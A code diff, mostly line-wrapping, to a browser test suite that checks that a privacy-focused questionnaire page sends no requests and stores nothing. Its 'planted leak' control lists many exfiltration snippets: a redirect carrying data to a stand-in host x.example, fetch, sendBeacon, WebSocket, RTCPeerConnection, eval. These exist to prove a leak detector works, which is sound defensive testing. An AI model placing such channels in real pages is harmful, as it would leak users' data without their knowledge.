@@ -12,7 +12,19 @@ import { launch, pageText } from "./driver.mjs";
 const FIREFOX = process.env.FIREFOX ?? "/usr/bin/firefox-esr";
 /** What Firefox, or this way of asking it, does not send even where everything is allowed: that proves nothing there. */
 const FIREFOX_KEEPS = [
-  "audio", "font", "font-rule", "form-get", "iframe-blob", "iframe-srcdoc", "import", "link-prefetch", "ping", "speculation", "video", "video-poster", "worklet",
+  "audio",
+  "font",
+  "font-rule",
+  "form-get",
+  "iframe-blob",
+  "iframe-srcdoc",
+  "import",
+  "link-prefetch",
+  "ping",
+  "speculation",
+  "video",
+  "video-poster",
+  "worklet",
 ];
 const BROWSERS = [
   { name: "Chromium", start: launch, keeps: [] },
@@ -29,7 +41,11 @@ const real = await pageText("oita");
 const unguarded = real.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
 
 async function startFirefox() {
-  await access(FIREFOX).catch(() => assert.fail(`Firefox is missing at ${FIREFOX}. Install it (on Debian, \`apt-get install firefox-esr\`), or set FIREFOX to its path.`));
+  await access(FIREFOX).catch(() =>
+    assert.fail(
+      `Firefox is missing at ${FIREFOX}. Install it (on Debian, \`apt-get install firefox-esr\`), or set FIREFOX to its path.`,
+    ),
+  );
   return puppeteer.launch({ browser: "firefox", executablePath: FIREFOX });
 }
 
@@ -58,20 +74,26 @@ async function session(page) {
   await click("[data-js-screen=question]");
   for (let asked = 0; (await page.evaluate(() => document.body.dataset.screen)) === "question"; asked += 1) {
     assert.ok(asked < 100, "the questions come to an end");
-    await page.evaluate((unknown) => {
-      const question = document.querySelector("[data-current]");
-      const option = question.querySelector(unknown ? "input[value=unknown], input[name$='.unknown']" : "input[type=radio]") ?? question.querySelector("input[type=radio], input[type=checkbox]");
-      option.click();
-      const more = question.querySelector("input[name$='.more'][value=none]");
-      more?.click();
-    }, asked % 2 === 1);
+    await page.evaluate(
+      (unknown) => {
+        const question = document.querySelector("[data-current]");
+        const option =
+          question.querySelector(unknown ? "input[value=unknown], input[name$='.unknown']" : "input[type=radio]") ??
+          question.querySelector("input[type=radio], input[type=checkbox]");
+        option.click();
+        const more = question.querySelector("input[name$='.more'][value=none]");
+        more?.click();
+      },
+      asked % 2 === 1,
+    );
     await page.waitForFunction(() => document.querySelector("[data-current] input:checked"));
     await page.evaluate(() => document.querySelector("#questions").requestSubmit());
   }
   assert.equal(await page.evaluate(() => document.body.dataset.screen), "check");
   await click("[data-js-screen=result]");
   await page.waitForFunction(() => !("thinking" in document.body.dataset));
-  for (const control of ["[data-js-print]", "[data-js-share] summary", "[data-js-make-link]", "[data-js-copy]"]) await click(control);
+  for (const control of ["[data-js-print]", "[data-js-share] summary", "[data-js-make-link]", "[data-js-copy]"])
+    await click(control);
   assert.match(await page.$eval("[data-js-address]", (one) => one.textContent), /#v2\./);
 }
 
@@ -79,7 +101,9 @@ for (const { name, start, keeps } of BROWSERS) {
   let browser;
   let took = 0;
   let rounds = 0;
-  before(async () => { browser = await start(); });
+  before(async () => {
+    browser = await start();
+  });
   after(() => browser?.close());
 
   test(`${name}: control: where everything is allowed, every channel leaks`, async () => {
@@ -87,7 +111,9 @@ for (const { name, start, keeps } of BROWSERS) {
       let missing = null;
       for (; rounds < MOST_ROUNDS && missing?.length !== 0; rounds += 1) {
         const began = Date.now();
-        const tried = Object.keys(await page.evaluate(tryAll, other, missing)).filter((channel) => !keeps.includes(channel));
+        const tried = Object.keys(await page.evaluate(tryAll, other, missing)).filter(
+          (channel) => !keeps.includes(channel),
+        );
         if (!missing) assert.ok(tried.length >= 33, `${tried.length} channels`);
         const left = () => tried.filter((channel) => !hits.has(channel));
         while (left().length > 0 && Date.now() - began < MOST_MS) await pause(20);
@@ -121,8 +147,12 @@ for (const { name, start, keeps } of BROWSERS) {
       assert.deepEqual(requests, []);
       assert.equal(server.asked.length, before);
       const kept = await page.evaluate(async () => [
-        document.cookie, localStorage.length, sessionStorage.length, (await indexedDB.databases()).length,
-        (await caches.keys()).length, (await navigator.serviceWorker.getRegistrations()).length,
+        document.cookie,
+        localStorage.length,
+        sessionStorage.length,
+        (await indexedDB.databases()).length,
+        (await caches.keys()).length,
+        (await navigator.serviceWorker.getRegistrations()).length,
       ]);
       assert.deepEqual(kept, ["", 0, 0, 0, 0, 0]);
     });
@@ -162,7 +192,8 @@ function suspects(script) {
     rest = rest.replace(pattern, " ");
   }
   for (const pattern of FORBIDDEN) {
-    for (const { 0: what, index } of rest.matchAll(pattern)) found.push(`${what} in …${rest.slice(Math.max(0, index - 30), index + 40)}…`);
+    for (const { 0: what, index } of rest.matchAll(pattern))
+      found.push(`${what} in …${rest.slice(Math.max(0, index - 30), index + 40)}…`);
   }
   return found;
 }
@@ -176,23 +207,62 @@ test("nothing in the script can do what no policy stops: navigate, open a window
 test("control: a planted leak of any kind is found in the script", () => {
   const script = scriptOf(real);
   const planted = [
-    "location='https:/'+'/x.example?'+a", "window.location.assign(a)", "document.location.href=a", "top.location=a", "self.open(a)".replace("self", "window"),
-    "open(a)", "const{open:o}=window;o(a)", "window[b](a)", "globalThis?.[b](a)", "e.href=a;e.click()", "e.href=`//x?${a}`", 'e.setAttribute("href",a)',
-    'm.httpEquiv="refresh"', 'm.setAttribute("http-equiv",b)', "new RTCPeerConnection({iceServers:[a]})", "new webkitRTCPeerConnection(a)",
-    "fetch(a)", "new XMLHttpRequest", "navigator.sendBeacon(a)", "new WebSocket(a)", "new EventSource(a)", "import(a)", "new Worker(a)", "navigation.navigate(a)",
-    "parent.postMessage(a,'*')", "f.submit()", "(0,eval)(a);eval(a)", "new Function(a)", "[].constructor.constructor(a)", "e.innerHTML=a", "new Image().src=a", "localStorage.a=b",
-    "document.cookie=a", "new BroadcastChannel(a)",
+    "location='https:/'+'/x.example?'+a",
+    "window.location.assign(a)",
+    "document.location.href=a",
+    "top.location=a",
+    "self.open(a)".replace("self", "window"),
+    "open(a)",
+    "const{open:o}=window;o(a)",
+    "window[b](a)",
+    "globalThis?.[b](a)",
+    "e.href=a;e.click()",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the planted line itself is a template.
+    "e.href=`//x?${a}`",
+    'e.setAttribute("href",a)',
+    'm.httpEquiv="refresh"',
+    'm.setAttribute("http-equiv",b)',
+    "new RTCPeerConnection({iceServers:[a]})",
+    "new webkitRTCPeerConnection(a)",
+    "fetch(a)",
+    "new XMLHttpRequest",
+    "navigator.sendBeacon(a)",
+    "new WebSocket(a)",
+    "new EventSource(a)",
+    "import(a)",
+    "new Worker(a)",
+    "navigation.navigate(a)",
+    "parent.postMessage(a,'*')",
+    "f.submit()",
+    "(0,eval)(a);eval(a)",
+    "new Function(a)",
+    "[].constructor.constructor(a)",
+    "e.innerHTML=a",
+    "new Image().src=a",
+    "localStorage.a=b",
+    "document.cookie=a",
+    "new BroadcastChannel(a)",
   ];
   for (const leak of planted) assert.notDeepEqual(suspects(`${script};${leak};`), [], leak);
 });
 
 test("the module takes in nothing that could reach beyond the page", async () => {
   const module = await WebAssembly.compile(engineOf(real));
-  const taken = WebAssembly.Module.imports(module).map(({ name, kind }) => `${kind} ${name.replace(/_[0-9a-f]{16}$/, "").replace("__wbg_", "")}`);
-  assert.deepEqual([...new Set(taken)].sort(), [
-    "function Error", "function __wbindgen_generic", "function __wbindgen_init_externref_table", "function __wbindgen_throw",
-    "function new", "function new_from_slice", "function set",
-  ].sort());
+  const taken = WebAssembly.Module.imports(module).map(
+    ({ name, kind }) => `${kind} ${name.replace(/_[0-9a-f]{16}$/, "").replace("__wbg_", "")}`,
+  );
+  assert.deepEqual(
+    [...new Set(taken)].sort(),
+    [
+      "function Error",
+      "function __wbindgen_generic",
+      "function __wbindgen_init_externref_table",
+      "function __wbindgen_throw",
+      "function new",
+      "function new_from_slice",
+      "function set",
+    ].sort(),
+  );
 });
 
 test("the markup around the script starts nothing either", () => {
